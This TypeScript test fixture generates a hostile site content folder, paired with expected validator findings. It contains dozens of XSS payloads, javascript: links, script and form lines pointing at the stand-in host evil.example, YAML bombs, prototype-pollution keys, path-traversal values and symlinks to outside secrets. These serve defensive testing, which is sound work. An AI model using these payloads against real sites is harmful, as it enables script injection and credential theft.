import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import sharp from 'sharp';
import type { DiagnosticCode } from '../../src/diagnostics.ts';

/** A finding as it should be: its code, and where the file has lines, its line and column. */
export type Expected = readonly [code: DiagnosticCode, line?: number | null, column?: number | null];

interface HostileFile {
  readonly content: string | Buffer;
  readonly expected: readonly Expected[];
}

const CODE = 'globalThis.executed = true; require("fs").writeFileSync(__dirname + "/executed", "");';
const page = (frontMatter: string, ...expected: readonly Expected[]): HostileFile => ({
  content: `---\n${frontMatter}\n---\nHarmless body.\n`,
  expected,
});
const body = (text: string, ...expected: readonly Expected[]): HostileFile => ({ content: `---\ntitle: Body\n---\n${text}\n`, expected });
const bomb = [
  'a: &a [1,1,1,1,1,1,1,1,1,1]',
  ...'bcdefghi'.split('').map((name, at) => `${name}: &${name} [${Array(10).fill(`*${'abcdefghi'[at]}`).join(',')}]`),
];

/** Raw HTML that must leave nothing behind but text: script in every spelling. */
const SCRIPTS = [
  '<script>globalThis.executed = true</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x oNeRrOr="alert(1)"/onload=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href=" &#1; javascript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="jav&#x0A;ascript:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="vbscript:x">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="blob:https://x/y">a</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/a"></iframe>',
  '<iframe src="https://evil.example/www.youtube.com/embed/a"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/a"></iframe>',
  '<iframe src="//evil.example/embed/a"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf"><applet></applet>',
  '<form action="https://evil.example/"><input name=password><button formaction="javascript:x">go</button></form>',
  '<p id="location" name="cookie">clobbered</p><a id=forms name=body></a>',
  '<p style="background:url(javascript:alert(1));position:fixed">styled</p><style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=//evil.example/"><base href=//evil.example/>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img title="</textarea><img src=x onerror=alert(1)>" src=x><xmp><script>x</script></xmp><plaintext>',
];
const MARKDOWN_SCRIPTS = `[a](javascript:alert(1)) [b](<java	script:alert(1)>) [c](JAVASCRIPT&colon;alert(1)) ![d](data:text/html,x)

[e]: javascript:alert(1)
[e] <javascript:alert(1)> [f](vbscript:x "t") [g](data:text/html;base64,PHNjcmlwdD4=)`;

const LINES = (ends: string): string => ['---', 'title: Ends', 'date: 2024-02-30', '---', 'Text.', ''].join(ends);

/** Every file of the site's content folder that a text can hold, with the findings that it must bring. */
export const FILES: Readonly<Record<string, HostileFile>> = {
  'good.md': { content: '---\ntitle: Good\ndate: 2024-01-02\n---\nText of the good one.\n', expected: [] },
  // Code in front matter.
  ...Object.fromEntries(
    ['---js', '---javascript', '--- js', '---JS', '---JavaScript', '---constructor', '---__proto__', '---coffee', '---cson'].map(
      (opener, at) => [`code/${at}.md`, { content: `${opener}\n${CODE}\n---\nBody.\n`, expected: [['FRONT_MATTER_LANGUAGE', 1] as const] }],
    ),
  ),
  'code/yaml-tag.md': page(`title: A\nx: !!js/function "function () { ${CODE} }"`, ['FRONT_MATTER_INVALID', 3]),
  'code/template.md': body('{{ printf "%s" "x" }} ${globalThis.executed = true} <%= 1 %> {{{ x }}}'),
  // Bombs.
  'bombs/aliases.md': page(bomb.join('\n'), ['FRONT_MATTER_TOO_COMPLEX', 1]),
  'bombs/cycle.md': page('a: &a\n  b: *a', ['FRONT_MATTER_TOO_COMPLEX', 1]),
  'bombs/deep.md': page(`a: ${'['.repeat(60)}${']'.repeat(60)}`, ['FRONT_MATTER_TOO_COMPLEX', 1]),
  'bombs/large.md': page(`a: ${'x'.repeat(20_000)}`, ['FRONT_MATTER_TOO_COMPLEX', 1]),
  // Broken front matter.
  'broken/colon.md': page('title: A: B', ['FRONT_MATTER_INVALID', 2, 9]),
  'broken/unclosed.md': { content: '---\ntitle: A\n\nText\n', expected: [['FRONT_MATTER_INVALID', 1, 1]] },
  'broken/list.md': page('- a', ['FRONT_MATTER_INVALID', 1, 1]),
  'broken/scalar.md': page('just text', ['FRONT_MATTER_INVALID', 1, 1]),
  'broken/twice.md': page('title: A\nb: 2\ntitle: C', ['FRONT_MATTER_INVALID', 4, 1]),
  'broken/toml.md': { content: '+++\ntitle = "A"\nb =\n+++\nText\n', expected: [['FRONT_MATTER_INVALID', 3, 4]] },
  'broken/json.md': { content: '{\n"title": "A",\n}\nText\n', expected: [['FRONT_MATTER_INVALID', 3, 1]] },
  // Names of objects' parts.
  'keys/prototype.md': page(
    'title: Keys\n__proto__: { polluted: true }\nconstructor: { prototype: { polluted: true } }\nparams: { prototype: 1 }',
    ['FRONT_MATTER_KEY'],
    ['FRONT_MATTER_KEY'],
    ['FRONT_MATTER_KEY'],
  ),
  // Dates and types.
  'values/february.md': page('title: A\ndate: 2024-02-30', ['DATE_INVALID', 3]),
  'values/month.md': page('title: A\ndate: 2024-13-01', ['DATE_INVALID', 3]),
  'values/words.md': page('title: A\ndate: the day before yesterday', ['DATE_INVALID', 3]),
  'values/weight.md': page('title: A\nweight: heavy', ['FRONT_MATTER_TYPE', 3]),
  'values/spelling.md': page('title: 123\nkeywords: a, b'),
  'values/talk.md': page('title: A\ntalks:\n  - title: 5\n    url: javascript:alert(1)', ['TALK_INVALID', 3], ['TALK_INVALID', 3]),
  // Encodings.
  'text/bom.md': { content: `\uFEFF${LINES('\n')}`, expected: [['DATE_INVALID', 3]] },
  'text/crlf.md': { content: LINES('\r\n'), expected: [['DATE_INVALID', 3]] },
  'text/cr.md': { content: LINES('\r'), expected: [['DATE_INVALID', 3]] },
  'text/nul.md': { content: 'a\nb\0c\n', expected: [['ENCODING_INVALID', 2, 2]] },
  'text/latin1.md': { content: Buffer.from('caf\u00e9', 'latin1'), expected: [['ENCODING_INVALID', 1, 4]] },
  'text/overlong.md': { content: Buffer.from([0x61, 0x0a, 0xc0, 0xaf]), expected: [['ENCODING_INVALID', 2, 1]] },
  'text/utf16.md': { content: Buffer.from('\uFEFF---\ntitle: A\n---\n', 'utf16le'), expected: [['ENCODING_INVALID', 1, 1]] },
  // Giants.
  'giants/large.md': { content: 'x '.repeat(600_000), expected: [['DOCUMENT_TOO_LARGE']] },
  'giants/quotes.md': body(`${'> '.repeat(500)}deep`, ['DOCUMENT_TOO_DEEP', 4]),
  'giants/lists.md': body(Array.from({ length: 300 }, (_, at) => `${'  '.repeat(at)}- x`).join('\n'), ['DOCUMENT_TOO_DEEP', 104]),
  'giants/marks.md': body(`${'&amp;www.'.repeat(50_000)}`, ['DOCUMENT_TIMEOUT', 4]),
  // Script.
  ...Object.fromEntries(SCRIPTS.map((html, at) => [`script/${String(at).padStart(2, '0')}.md`, body(html)])),
  'script/markdown.md': body(MARKDOWN_SCRIPTS),
  'script/title.md': page('title: <script>alert(1)</script>\ndescription: <img src=x onerror=alert(1)>'),
  // Shortcodes.
  'shortcodes/unclosed.md': body('Text {{< tip "a', ['SHORTCODE_INVALID', 4]),
  'shortcodes/nested.md': body(`${'{{< tip >}}\n'.repeat(20)}${'{{< /tip >}}\n'.repeat(20)}`, ['SHORTCODE_INVALID', 20]),
  'shortcodes/many.md': body('{{< unknown >}}\n'.repeat(1005), ['SHORTCODE_INVALID', 1004]),
  'shortcodes/code.md': body('```\n{{< tip "a\n```\n\n`{{< /x >}}`'),
  'shortcodes/prototype.md': body('{{< __proto__ >}} {{< constructor a=1 >}}', ['SHORTCODE_UNKNOWN', 4], ['SHORTCODE_UNKNOWN', 4]),
  'shortcodes/video.md': body('{{< youtube "a\\"></iframe><script>x</script>" >}}'),
  // URLs.
  'urls/first.md': page('title: First\nurl: /same/'),
  'urls/second.md': page('title: Second\nurl: /SAME/', ['URL_CONFLICT']),
  'urls/third.md': page('title: Third\nurl: ../../etc/passwd'),
  'urls/cafe\u0301.md': page('title: Decomposed'),
  // Images.
  'images/post.md': body(
    ['truncated.png', 'lie.png', 'giant.png', 'heavy.jpg', 'script.svg', 'gone.png', '../../../../etc/passwd']
      .map((name) => `![x](${name})`)
      .join('\n'),
  ),
};

/** Findings that name no file of `FILES`: what is no text, and what is no regular file. */
const OTHERS: Readonly<Record<string, readonly Expected[]>> = {
  'images/truncated.png': [['IMAGE_INVALID']],
  'images/lie.png': [['IMAGE_INVALID']],
  'images/giant.png': [['IMAGE_TOO_LARGE']],
  'images/heavy.jpg': [['IMAGE_TOO_LARGE']],
  'files/link.md': [['FILE_SKIPPED']],
  'files/device.md': [['FILE_SKIPPED']],
  'files/folder': [['FILE_SKIPPED']],
  'files/dangling.md': [['FILE_SKIPPED']],
  'files/pipe.md': [['FILE_SKIPPED']],
  'files/pipe.png': [['FILE_SKIPPED']],
  'files/sparse.md': [['DOCUMENT_TOO_LARGE']],
};

export interface HostileSite {
  /** Findings by path in the content folder. */
  readonly expected: ReadonlyMap<string, readonly Expected[]>;
}

/** Makes the site in a folder: what git can hold and what it cannot. */
export async function writeHostileSite(folder: string): Promise<HostileSite> {
  const content = join(folder, 'content');
  const write = (path: string, bytes: string | Buffer): string => {
    const file = join(content, path);
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, bytes);
    return file;
  };
  const expected = new Map<string, readonly Expected[]>(Object.entries(OTHERS));
  for (const [path, file] of Object.entries(FILES)) {
    write(path, file.content);
    expected.set(path.normalize('NFC'), file.expected);
  }
  const png = await sharp({
    create: { width: 64, height: 64, channels: 3, background: '#369', noise: { type: 'gaussian', mean: 90, sigma: 40 } },
  })
    .png()
    .toBuffer();
  write('images/truncated.png', png.subarray(0, 30));
  write('images/lie.png', '<html><script>alert(1)</script></html>');
  const giant = Buffer.from(png);
  giant.writeUInt32BE(60_000, 16);
  giant.writeUInt32BE(60_000, 20);
  write('images/giant.png', giant);
  truncateSync(write('images/heavy.jpg', ''), 30 * 1024 * 1024);
  write(
    'images/script.svg',
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)"><script>alert(1)</script></svg>',
  );

  mkdirSync(join(content, 'files'));
  const secret = join(folder, '..', 'secret.md');
  writeFileSync(secret, '# Secret outside of the site\n');
  for (const [path, target] of [
    ['link.md', secret],
    ['device.md', '/dev/zero'],
    ['folder', dirname(folder)],
    ['dangling.md', '/nowhere'],
  ] as const)
    symlinkSync(target, join(content, 'files', path));
  for (const path of ['pipe.md', 'pipe.png']) execFileSync('mkfifo', [join(content, 'files', path)]);
  truncateSync(write('files/sparse.md', ''), 1024 ** 4);
  // Whoever may do everything may read it: then there is nothing to report.
  if (process.getuid?.() !== 0) {
    chmodSync(write('files/unreadable.md', 'x'), 0);
    expected.set('files/unreadable.md', [['FILE_SKIPPED']]);
  }
  return { expected };
}
